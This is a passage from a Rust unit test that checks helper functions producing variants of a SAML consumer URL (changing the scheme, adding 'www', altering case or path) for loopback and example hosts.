            "http://127.0.0.1:8080/api/saml/consume/?x=1"
        );
        assert_eq!(
            toggle_scheme(loopback),
            "https://127.0.0.1:8080/api/saml/consume?x=1"
        );
        assert_eq!(
            toggle_www(loopback),
            "http://www.127.0.0.1:8080/api/saml/consume?x=1"
        );
        assert_eq!(
            change_case(loopback),
            "http://127.0.0.1:8080/api/saml/Consume?x=1"
        );
        assert_eq!(other_path(loopback), "http://127.0.0.1:8080/?x=1");
        assert_eq!(
            other_path("https://sp.example/"),
            "https://sp.example/saml/acs"
        );
        assert_eq!(
            change_case("https://sp.example/1/2"),
            "https://Sp.example/1/2"
        );
    }
}
